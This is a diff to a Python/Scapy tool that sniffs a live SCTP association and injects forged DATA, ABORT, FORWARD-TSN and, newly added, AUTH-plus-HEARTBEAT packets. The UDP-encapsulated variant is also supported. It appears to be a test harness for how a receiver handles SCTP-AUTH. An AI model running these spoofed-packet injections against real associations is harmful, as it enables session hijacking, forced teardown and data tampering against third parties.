@@ -29,6 +29,15 @@ so the bytes are built here) or DATA.
          acknowledged beyond what it sent, aborts the association; told
          to skip TSNs in flight, the receiver drops them as duplicates.
 
+  auth   one packet of an AUTH chunk whose HMAC is zeroes (key 1, HMAC
+         --hmac-id, default 3 for SHA-256) and a HEARTBEAT behind it: both
+         are dropped, the HMAC being wrong, but the receiver has read the
+         packet's source by then; one naming an HMAC the receiver does
+         not have (2 is reserved) draws an ERROR in reply. With --udp PORT
+         (SCTP inside UDP, RFC 6951: watch and forge inside UDP to PORT)
+         and --udp-sport N, the forged packet comes from UDP port N
+         instead of the peer's.
+
 The packets leave from IFACE with SRC's real addresses, so the receiving
 kernel's checks (tag, ports, CRC32c, reverse path) all pass: only SCTP-AUTH
 can tell them apart. Scapy takes seconds to load on a slow machine:
@@ -43,7 +52,7 @@ import struct
 import sys
 import time
 
-from scapy.layers.inet import IP
+from scapy.layers.inet import IP, UDP
 from scapy.layers.l2 import Ether
 from scapy.layers.sctp import SCTP
 from scapy.packet import Raw
@@ -51,7 +60,10 @@ from scapy.sendrecv import sendp
 
 ETH_P_ALL = 3
 CID_DATA = 0
+CID_HEARTBEAT = 4
 CID_ABORT = 6
+CID_AUTH = 0x0F
+HMAC_SHA256 = 3
 CID_IDATA = 64
 CID_FWD_TSN = 0xC0
 CID_IFWD_TSN = 0xC2
@@ -77,18 +89,24 @@ class Watch:
         self.chunk_type = None
         self.per_stream = {}
         self.stream_chunks = 0
+        self.udp_sport = None
 
-    def take(self, frame, src, dst):
+    def take(self, frame, src, dst, udp):
         if len(frame) < 14 + 20 or frame[12:14] != b"\x08\x00":
             return
         ip = frame[14:]
         ihl = (ip[0] & 0x0F) * 4
-        if ip[9] != 132 or ip[12:16] != src or ip[16:20] != dst:
+        if ip[9] != (17 if udp else 132) or ip[12:16] != src or ip[16:20] != dst:
             return
         total = struct.unpack(">H", ip[2:4])[0]
         # A GSO packet (seen before segmentation) may be longer than its
         # IP length says; Ethernet padding after a short one is not SCTP.
         sctp = ip[ihl:] if len(frame) > 1514 or total <= ihl else ip[ihl:total]
+        if udp:
+            if len(sctp) < 8 or struct.unpack(">H", sctp[2:4])[0] != udp:
+                return
+            self.udp_sport = struct.unpack(">H", sctp[0:2])[0]
+            sctp = sctp[8:]
         if len(sctp) < 12:
             return
         sport, dport, tag = struct.unpack(">HHI", sctp[:8])
@@ -112,7 +130,7 @@ class Watch:
             off += (clen + 3) & ~3
 
 
-def watch(iface, src, dst, seconds, want):
+def watch(iface, src, dst, seconds, want, udp):
     """Watches until `want` user chunks on streams > 0 were seen."""
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     s.bind((iface, 0))
@@ -125,7 +143,7 @@ def watch(iface, src, dst, seconds, want):
                 frame = s.recv(65536)
             except socket.timeout:
                 break
-            w.take(frame, src, dst)
+            w.take(frame, src, dst, udp)
     finally:
         s.close()
     return w
@@ -145,30 +163,43 @@ def user_chunk(ctype, tsn, sid, payload):
     return chunk + b"\0" * (-len(chunk) % 4)
 
 
-def send(w, iface, src, dst, chunks):
-    pkt = (Ether(src=w.mac_src, dst=w.mac_dst)
-           / IP(src=src, dst=dst, ttl=64)
-           / SCTP(sport=w.sport, dport=w.dport, tag=w.tag)
-           / Raw(chunks))
-    sendp(pkt, iface=iface, verbose=False)
+def send(w, o, chunks):
+    pkt = Ether(src=w.mac_src, dst=w.mac_dst) / IP(src=o.src, dst=o.dst, ttl=64)
+    if o.udp:
+        pkt = pkt / UDP(sport=o.udp_sport or w.udp_sport, dport=o.udp)
+    pkt = pkt / SCTP(sport=w.sport, dport=w.dport, tag=w.tag) / Raw(chunks)
+    sendp(pkt, iface=o.iface, verbose=False)
+
+
+def bad_auth(hmac_id):
+    """AUTH (key 1, zeroes) and a HEARTBEAT after it."""
+    auth = struct.pack(">BBHHH", CID_AUTH, 0, 8 + 32, 1, hmac_id) + bytes(32)
+    info = struct.pack(">HH", 1, 4 + 8) + b"FORGED!!"  # Heartbeat Info
+    return auth + struct.pack(">BBH", CID_HEARTBEAT, 0, 4 + len(info)) + info
 
 
 def act(o, what, src, dst):
-    w = watch(o.iface, src, dst, o.sniff_s, o.want)
+    w = watch(o.iface, src, dst, o.sniff_s, o.want, o.udp)
     seen = (f"packets={w.packets} user_chunks={w.user_chunks} "
             f"chunk={'I-DATA' if w.chunk_type == CID_IDATA else 'DATA'} "
             f"tag=0x{w.tag or 0:08x} ports={w.sport}->{w.dport} top_tsn={w.top_tsn}")
     if not w.per_stream:
         print(f"{what}: no user data seen to learn from; {seen}", flush=True)
         return False
+    if o.udp:
+        seen += f" udp={w.udp_sport}->{o.udp}"
+    if what == "auth":
+        send(w, o, bad_auth(o.hmac_id))
+        print(f"auth: sent=1 udp_sport={o.udp_sport or w.udp_sport} {seen}", flush=True)
+        return True
     if what == "abort":
-        send(w, o.iface, o.src, o.dst, struct.pack(">BBH", CID_ABORT, 0, 4))
+        send(w, o, struct.pack(">BBH", CID_ABORT, 0, 4))
         print(f"abort: sent=1 {seen}", flush=True)
         return True
     if what == "fwdtsn":
         ctype = CID_IFWD_TSN if w.chunk_type == CID_IDATA else CID_FWD_TSN
         cum = (w.top_tsn + o.skip) & 0xFFFFFFFF
-        send(w, o.iface, o.src, o.dst, struct.pack(">BBHI", ctype, 0, 8, cum))
+        send(w, o, struct.pack(">BBHI", ctype, 0, 8, cum))
         print(f"fwdtsn: sent=1 new_cum_tsn={cum} {seen}", flush=True)
         return True
     sid = max(w.per_stream, key=w.per_stream.get)
@@ -176,14 +207,14 @@ def act(o, what, src, dst):
     chunks = [user_chunk(w.chunk_type, (first + i) & 0xFFFFFFFF, sid, FORGED)
               for i in range(o.count)]
     for i in range(0, len(chunks), PER_PACKET):
-        send(w, o.iface, o.src, o.dst, b"".join(chunks[i : i + PER_PACKET]))
+        send(w, o, b"".join(chunks[i : i + PER_PACKET]))
     print(f"data: sent={o.count} stream={sid} first_tsn={first} {seen}", flush=True)
     return True
 
 
 def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
-    p.add_argument("actions", nargs="+", choices=["data", "abort", "fwdtsn"])
+    p.add_argument("actions", nargs="+", choices=["data", "abort", "fwdtsn", "auth"])
     p.add_argument("--iface", required=True)
     p.add_argument("--src", required=True)
     p.add_argument("--dst", required=True)
@@ -193,6 +224,9 @@ def main():
     p.add_argument("--want", type=int, default=20)
     p.add_argument("--pause", type=float, default=2.0)
     p.add_argument("--ready-file")
+    p.add_argument("--udp", type=int, default=0)
+    p.add_argument("--udp-sport", type=int, default=0)
+    p.add_argument("--hmac-id", type=int, default=HMAC_SHA256)
     o = p.parse_args()
     src, dst = socket.inet_aton(o.src), socket.inet_aton(o.dst)
     if o.ready_file:
